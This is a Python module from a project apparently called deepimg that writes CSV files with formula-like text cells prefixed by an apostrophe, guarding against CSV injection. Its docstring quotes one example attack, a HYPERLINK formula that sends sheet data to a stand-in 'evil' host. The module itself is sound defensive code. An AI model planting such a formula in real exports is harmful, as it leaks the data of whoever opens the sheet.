"""CSV files that are safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` sends the sheet's data away. Cells
of deepimg's CSVs can come from anyone (an override value, a class folder's name, a run
folder that someone sent), so every text cell that a spreadsheet would read as a formula is
prefixed with ``'``, OWASP's rule for CSV injection. Numbers, such as ``-0.5``, are left as
they are: a spreadsheet reads them as numbers, not formulas.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")


def neutral(value: Any) -> Any:
    """``value`` with a leading ``'`` where a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutral."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):  # object and string columns alike
            out[column] = out[column].map(neutral)
    out.columns = [neutral(c) for c in out.columns]
    out.index = out.index.map(neutral)
    if out.index.name is not None:
        out.index.name = neutral(out.index.name)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs: Any) -> Path:
    """``frame.to_csv(path, **kwargs)``, with every text cell neutral (see the module)."""
    neutralised(frame).to_csv(path, **kwargs)
    return Path(path)
